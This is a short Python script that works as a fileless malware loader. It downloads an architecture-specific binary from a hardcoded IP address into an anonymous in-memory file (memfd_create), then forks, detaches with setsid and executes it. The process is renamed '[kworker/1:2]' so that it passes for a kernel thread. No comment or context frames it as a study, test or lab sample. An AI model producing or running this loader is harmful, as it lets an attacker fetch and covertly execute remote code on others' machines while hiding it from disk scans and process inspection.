import ctypes
import os
import platform
import urllib.request

libc = ctypes.CDLL(None, use_errno=True)
ARCH = {"x86_64": "amd64", "aarch64": "arm64"}.get(platform.machine(), "386")
URL = "http://198.51.100.8/rel/agent-" + ARCH


def load(url):
    fd = libc.memfd_create(b"", 1)
    with urllib.request.urlopen(url) as r, os.fdopen(os.dup(fd), "wb") as w:
        while chunk := r.read(65536):
            w.write(chunk)
    return f"/proc/self/fd/{fd}"


if os.fork() == 0:
    os.setsid()
    os.execve(load(URL), ["[kworker/1:2]"], {"PATH": "/usr/bin"})
